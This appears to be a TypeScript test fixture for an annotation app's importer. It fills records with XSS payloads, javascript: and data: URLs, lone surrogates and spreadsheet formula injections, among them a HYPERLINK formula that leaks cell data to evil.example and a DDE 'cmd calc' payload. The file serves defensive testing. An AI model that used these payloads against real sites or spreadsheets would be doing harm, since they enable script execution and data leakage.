import { toWebAnnotationJson } from '@/utils/export';
import type { Annotation } from '@/utils/types';
import { LONG, P } from './payloads';
import { day, pageRecord } from './records';

/**
 * The import file of hostile-library.test.ts: every field the notes page shows or an export writes carries a payload
 * (script, markup, CSS, bidi override, spreadsheet formula, lone surrogate, 100k characters), and a few records carry
 * links the importer must refuse (`javascript:`, `data:`, a non-http page URL).
 */

/** Markdown that would link, embed or autolink if it were not escaped. */
export const MD = {
  link: '[click](javascript:alert(1))',
  autolink: '<javascript:alert(1)>',
  image: '![pixel](https://tracker.example/p.png)',
} as const;

/** Cells a spreadsheet would run as formulas. */
export const FORMULA = {
  hyperlink: '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  plus: '+1+1',
  minus: '-2+3',
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  fullwidth: '\uFF1D1+1',
  tab: '\t=1+1 after a tab',
  cr: '\r=1+1 after a carriage return',
} as const;

export const PAGE_A = pageRecord('https://hostile.example/story?ref="><img src=x onerror=alert(1)>', {
  title: `Council vote ${P.img} stirs anger ${P.rtl}`,
  siteName: `The ${P.textarea} Gazette`,
  byline: `Jo Writer ${P.svg}`,
  publishedTime: P.img, // not a date: shown as written
  lang: `en" onmouseover="window.__qmHit='lang'`,
  excerpt: P.css,
});
/** Lone surrogates in the URL (the URL parser accepts them) and in every text field. */
export const PAGE_B = pageRecord('https://hostile.example/broken-\uD800-path', {
  title: 'Broken \uD800 title \uDC00 here',
  siteName: "=cmd|' /C calc'!A0",
  byline: '+SUM(1,1) \uDBFF',
});
/** A title 50 times the limit: the page record is refused, its annotation kept under a stub page. */
export const PAGE_C = pageRecord('https://hostile.example/long', { title: LONG });

let seq = 0;
const note = (over: Partial<Annotation> & { quote: string }): Annotation => {
  seq++;
  return {
    id: `00000000-0000-4000-8000-${String(seq).padStart(12, '0')}`,
    pageUrl: PAGE_A.url,
    kind: 'highlight',
    selectors: [
      { type: 'TextQuoteSelector', exact: over.quote, prefix: `${P.svg} before `, suffix: ` after ${P.img}` },
      { type: 'TextPositionSelector', start: seq * 100, end: seq * 100 + over.quote.length },
    ],
    color: 'yellow',
    note: '',
    tags: [],
    createdAt: day('2025-03-02') + seq,
    updatedAt: day('2025-03-03') + seq,
    anchor: { status: 'exact', at: day('2025-03-03') },
    ...over,
  };
};

export const CLAIM = note({
  kind: 'claim',
  quote: `He typed ${P.img} into the form`,
  note: [P.img, P.textarea, P.svg, P.css, P.rtl, P.js, MD.link, MD.autolink, MD.image].join('\n'),
  speaker: P.textarea,
  verdict: 'false',
  tags: [P.svg, P.rtl, 'javascript:void(0)'],
  evidence: [
    { url: 'https://example.org/report?q="><svg onload=alert(1)>', stance: 'refutes', title: P.img },
    { url: 'http://example.org/plain', stance: 'supports', title: P.css },
  ],
});
export const LONG_NOTE = note({ kind: 'quote', quote: `and then ${P.css} appeared`, note: LONG, speaker: P.svg });
export const FORMULAS = note({
  quote: FORMULA.hyperlink,
  note: FORMULA.plus,
  speaker: FORMULA.at,
  tags: [FORMULA.minus, FORMULA.fullwidth],
});
export const BROKEN = note({
  kind: 'claim',
  pageUrl: PAGE_B.url,
  quote: 'A broken \uD800 character sits \uDC00 here',
  note: `${FORMULA.cr} and a lone \uDBFF surrogate`,
  speaker: 'Ms \uDC00 Lone',
  verdict: 'misleading',
  tags: ['lone \uDC00 tag'],
  evidence: [{ url: 'https://example.org/\uD800', stance: 'context', title: 'Broken \uDFFF link' }],
});
export const TABBED = note({ pageUrl: PAGE_C.url, quote: FORMULA.tab, note: FORMULA.cr });
/** Its id is a payload, and it is in the file twice: the problem list names it. */
export const DUPLICATE = note({ id: `<img src=x onerror="window.__qmHit='id'">`, quote: 'The clerk read it aloud' });

/** What the importer must keep: every record above (the newer copy of the duplicate). */
export const VALID = [CLAIM, LONG_NOTE, FORMULAS, BROKEN, TABBED, DUPLICATE];
export const VALID_PAGES = [PAGE_A, PAGE_B];

const refused = [
  note({ quote: 'Evidence with a script link', evidence: [{ url: 'javascript:alert(1)', stance: 'supports' }] }),
  note({
    quote: 'Evidence as a data URL',
    evidence: [{ url: 'data:text/html,<script>alert(1)</script>', stance: 'refutes', title: P.img }],
  }),
  note({ quote: 'Evidence hiding its scheme', evidence: [{ url: ' JavaScript:alert(1)', stance: 'context' }] }),
  note({ quote: 'A page that is a script', pageUrl: 'javascript:alert(1)//https://hostile.example/' }),
];

/** The problems the import review lists, in file order. */
export const PROBLEMS = [
  'annotation 7: quotemark.evidence.0.url: not an http(s) URL',
  'annotation 8: quotemark.evidence.0.url: not an http(s) URL',
  'annotation 9: quotemark.evidence.0.url: not an http(s) URL',
  'annotation 10: pageUrl: not an http(s) URL',
  `annotation 11: duplicate id ${DUPLICATE.id}; kept the more recently updated copy`,
  'page 3: title: too long (99993 characters, limit 2000)',
];

export const IMPORT_FILE = toWebAnnotationJson(
  [...VALID, ...refused, { ...DUPLICATE, note: 'older copy', updatedAt: DUPLICATE.updatedAt - 1000 }],
  [PAGE_A, PAGE_B, PAGE_C],
  { now: day('2025-03-07') },
);

/** A Hypothesis export (another tool's format, read by the same Import control) carrying payloads of its own. */
const hypoRow = (id: string, uri: string, exact: string, over: Record<string, unknown> = {}) => ({
  id,
  created: '2024-05-02T10:15:30.123456+00:00',
  updated: '2024-05-03T08:00:00.000000+00:00',
  uri,
  text: '',
  tags: [],
  document: { title: [LONG] },
  target: [{ source: uri, selector: [{ type: 'TextQuoteSelector', exact, prefix: P.svg, suffix: P.img }] }],
  ...over,
});
export const HYPO_URL = 'https://hypo.example/2024/harbour';
export const HYPO_QUOTE = `The harbour ${P.svg} plan`;
export const HYPOTHESIS_FILE = JSON.stringify({
  export_date: '2024-06-01T12:00:00.000Z',
  annotations: [
    hypoRow('hYp0aaaa', HYPO_URL, HYPO_QUOTE, { text: `**Bold** ${P.img} ${MD.link}`, tags: [P.textarea, P.rtl] }),
    hypoRow('hYp0bbbb', 'javascript:alert(document.cookie)', 'A quote on a script page'),
    hypoRow('hYp0cccc', HYPO_URL, 'A quote whose target is a data URL', {
      target: [
        { source: 'data:text/html,<script>alert(1)</script>', selector: [{ type: 'TextQuoteSelector', exact: 'x' }] },
      ],
    }),
  ],
});
